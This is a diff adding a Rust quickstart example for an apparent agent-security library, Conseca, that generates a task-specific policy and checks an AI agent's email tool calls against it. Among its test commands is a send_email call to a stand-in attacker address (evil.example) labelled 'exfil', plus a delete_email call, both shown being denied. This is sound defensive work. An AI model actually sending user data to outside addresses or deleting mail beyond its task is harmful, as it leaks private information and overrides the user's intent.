@@ -1,0 +1,49 @@
+//! Quickstart: generate a contextual policy and enforce it, in ~40 lines.
+//!
+//! Reproduces the paper's §4.1 worked example: for the task *"Get unread
+//! emails related to work and respond to any that are urgent"*, Conseca
+//! allows `send_email` only from the current user, to known work
+//! addresses, with an urgent subject — and denies `delete_email` outright.
+//!
+//! Run with: `cargo run --example quickstart`
+
+use conseca_agent::build_trusted_context;
+use conseca_core::{is_allowed, render_policy, PolicyGenerator};
+use conseca_llm::TemplatePolicyModel;
+use conseca_mail::MailSystem;
+use conseca_shell::{default_registry, parse_command};
+use conseca_vfs::{SharedVfs, Vfs};
+use conseca_workloads::golden_examples;
+
+fn main() {
+    // A small world: two users with mailboxes.
+    let mut fs = Vfs::new();
+    fs.add_user("alice", false).unwrap();
+    fs.add_user("bob", false).unwrap();
+    let vfs = SharedVfs::new(fs);
+    let mail = MailSystem::new(vfs.clone(), "work.com");
+    mail.ensure_mailbox("alice").unwrap();
+    mail.ensure_mailbox("bob").unwrap();
+
+    // set_policy(task, trusted_ctxt) -> Policy  (the paper's first API).
+    let registry = default_registry();
+    let mut generator = PolicyGenerator::new(TemplatePolicyModel::new(), &registry)
+        .with_golden_examples(golden_examples());
+    let task = "Get unread emails related to work and respond to any that are urgent";
+    let ctx = build_trusted_context(&vfs, &mail, "alice");
+    let (policy, stats) = generator.set_policy(task, &ctx);
+
+    println!("generated policy ({} prompt tokens):\n", stats.prompt_tokens);
+    println!("{}", render_policy(&policy));
+
+    // is_allowed(cmd, policy) -> (bool, rationale)  (the paper's second API).
+    for cmd in [
+        "send_email alice bob@work.com 'urgent: rack 4' 'On it.'",
+        "send_email alice partner@evil.example 'urgent: rack 4' 'exfil'",
+        "delete_email 7",
+    ] {
+        let call = parse_command(cmd, &registry).unwrap();
+        let decision = is_allowed(&call, &policy);
+        println!("{}", decision.feedback(&call));
+    }
+}
